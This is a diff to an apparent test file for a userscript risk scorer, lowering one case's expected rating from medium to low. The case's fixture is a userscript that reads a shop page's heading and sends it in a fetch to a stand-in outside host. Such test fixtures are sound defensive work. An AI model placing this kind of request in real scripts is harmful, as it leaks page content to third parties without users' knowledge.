@@ -11,7 +11,7 @@ describe("page-scraping", () => {
 		],
 		[
 			"a word of the page in an address",
-			["medium 5"],
+			["low 5"],
 			userscript(
 				["match https://shop.example/*"],
 				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent).then(r=>r.text()).then(alert)`,
